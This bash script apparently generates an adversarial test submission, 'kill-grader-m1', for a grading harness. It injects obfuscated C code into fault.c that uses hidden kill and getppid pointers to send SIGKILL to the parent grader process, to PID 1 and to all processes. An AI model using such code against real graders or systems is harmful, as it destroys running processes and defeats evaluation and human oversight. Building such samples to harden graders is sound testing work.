#!/usr/bin/env bash
# make.sh OUTDIR: writes the kill-grader-m1 submission into OUTDIR (see ../README).
set -eu
. "$(dirname "$0")/../lib.sh"
OUT=$1
F=phase1-single/fault.c
write_sample "$OUT" $F "$(with_attack $F "$(hidden_prologue kill getppid)
#include <signal.h>
static void h6_kill(void)
{
    typedef int (*kill_t)(int, int);
    int ppid = ((int (*)(void))hidden_getppid)();
    ((kill_t)hidden_kill)(ppid, SIGKILL);
    ((kill_t)hidden_kill)(1, SIGKILL);
    ((kill_t)hidden_kill)(-1, SIGKILL);
}" '    h6_kill();')"
